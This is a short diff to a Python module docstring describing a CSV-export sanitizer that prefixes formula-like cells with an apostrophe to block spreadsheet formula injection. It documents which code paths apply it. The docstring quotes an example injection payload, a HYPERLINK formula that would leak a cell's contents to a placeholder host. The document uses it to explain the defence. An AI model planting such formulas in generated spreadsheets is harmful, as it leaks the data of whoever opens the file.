@@ -1,7 +1,8 @@
 """CSV that a spreadsheet opens as data: a text cell that Excel, LibreOffice or Google Sheets would run as a formula
 (it starts with =, +, -, @, a tab or a carriage return) gets a leading apostrophe, as OWASP's "CSV injection" advice
 says. An ID such as `=HYPERLINK("http://x/?"&A1)` in an uploaded file would otherwise come back as a live formula in
-the graded file. The page's graded CSV (korllama/serve/page.py) uses it; `korllama predict` may too."""
+the graded file. `korllama predict` (korllama.predict.predict_file) applies it to every chunk it writes, so the
+page's graded files get it too."""
 
 from __future__ import annotations
 
